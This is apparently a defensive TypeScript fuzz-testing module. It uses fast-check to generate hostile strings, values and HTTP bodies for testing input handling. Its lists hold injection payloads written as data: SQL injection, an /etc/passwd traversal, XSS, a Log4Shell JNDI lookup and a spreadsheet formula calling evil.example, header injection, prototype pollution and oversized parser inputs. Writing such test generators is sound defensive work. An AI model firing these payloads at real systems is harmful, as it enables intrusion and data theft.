import fc from 'fast-check'

/** Texts that break careless programs: of other languages, of other alphabets, too long, not quite text. */
const TEXTS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff',
  '\r\nSet-Cookie: forged=1',
  '\u202eevil',
  '\ufeff',
  'e\u0301'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(20),
  "' OR '1'='1",
  "'; DROP TABLE orders; --",
  '\\',
  '%',
  '_%',
  '%00',
  '%2e%2e%2f',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '=HYPERLINK("https://evil.example")',
  'javascript:alert(1)',
  '//evil.example',
  '\\\\evil.example',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '1e21',
  '-1',
  '0x10',
  '5abc',
  '１２３',
  '2026-02-30T25:61:00Z',
  '\u212a@example.com',
  'K@EXAMPLE.COM',
  'a@b@example.com',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'a'.repeat(300),
  'ab '.repeat(2_000),
]

const NUMBERS = [0, -0, -1, 0.1, 1.005, 1e-7, 1e21, -1e21, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53, 1.7e308]

const SHAPES = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  ['1'],
  [null],
  { $ne: null },
  { length: 1e9 },
  { toString: 1 },
  { valueOf: 'x', toJSON: 'y' },
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
]

/** Any text, the known bad ones before others. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
)

/** Any value that JSON has. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom(...SHAPES) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
)

/** Bodies that are not what they say, with the content type they come with. */
export const hostileBody: fc.Arbitrary<{ contentType: string; text: string }> = fc.record({
  contentType: fc.constantFrom(
    'application/json',
    'application/json; charset=utf-16',
    'application/json;charset=ibm500',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/jsonp',
    'application/problem+json',
    'image/png',
    'nonsense',
  ),
  text: fc.constantFrom(
    '',
    ' ',
    '{',
    'null',
    '0',
    '"text"',
    '[]',
    '{}}',
    '{"a":1,}',
    "{'a':1}",
    'a=1&b=2',
    'NaN',
    '\ufeff{}',
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '{"a":1,"a":2}',
    `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
    `{"a":${'9'.repeat(4_000)}}`,
    `{"a":"${'x'.repeat(65_536)}"}`,
    '\u0000',
    '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
  ),
})
